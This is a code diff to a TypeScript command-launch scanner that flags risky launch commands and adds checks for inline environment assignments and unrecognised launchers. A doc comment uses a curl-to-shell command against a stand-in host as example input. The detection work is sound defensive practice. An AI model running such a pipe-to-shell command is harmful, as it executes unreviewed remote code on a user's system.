@@ -1,9 +1,10 @@
 import type { Finding } from '../findings/finding.ts'
 import { toExcerpt } from '../findings/visible.ts'
 import { argumentFindings, commandRules, pipelineFindings } from './command-rules.ts'
-import { commandsOf, type SimpleCommand } from './commands.ts'
+import { assignmentsOf, commandsOf, type SimpleCommand } from './commands.ts'
 import { environmentFindings } from './environment-rules.ts'
 import { lookAlikeFindings, packageFindings } from './packages.ts'
+import { isPlainLauncher } from './plain-launcher.ts'
 import type { Launch } from './sandbox.ts'
 import { hasInvisible, showInvisible } from './shell-escapes.ts'
 
@@ -35,15 +36,34 @@ function quote(word: string, plain = /^[\w@%+=:,./-]+$/): string {
  * commandFindings({ command: 'bash', args: ['-c', 'curl https://a.example | sh'], env: {}, cwd: undefined })
  */
 export function commandFindings(launch: Launch): Finding[] {
-  const { commands, pipelines } = commandsOf([launch.command, ...launch.args])
-  return unique([
+  const words = [launch.command, ...launch.args]
+  const { commands, pipelines } = commandsOf(words)
+  const findings = [
     ...hiddenText(launch),
     ...commands.flatMap(lookAlikeFindings),
     ...commands.flatMap((command) => [...rulesOf(command), ...packageFindings(command)]),
     ...pipelines.flatMap(pipelineFindings),
     ...argumentFindings(launch),
+    // They are part of the command that the user sees.
+    ...environmentFindings(assignmentsOf(words)).map((finding) => ({ ...finding, where: 'command' })),
+  ]
+  const isHigh = findings.some(({ severity }) => severity === 'high')
+  return unique([
+    ...findings,
+    ...(isHigh || isPlainLauncher(launch) ? [] : [unknownLauncher(launch)]),
     ...environmentFindings(launch.env),
   ])
+}
+
+function unknownLauncher(launch: Launch): Finding {
+  const message = 'It is not known what this kind of command runs. Read all of it.'
+  return {
+    rule: 'unknown-launcher',
+    severity: 'low',
+    where: 'command',
+    message,
+    excerpt: toExcerpt(describeCommand(launch)),
+  }
 }
 
 function rulesOf(command: SimpleCommand): Finding[] {
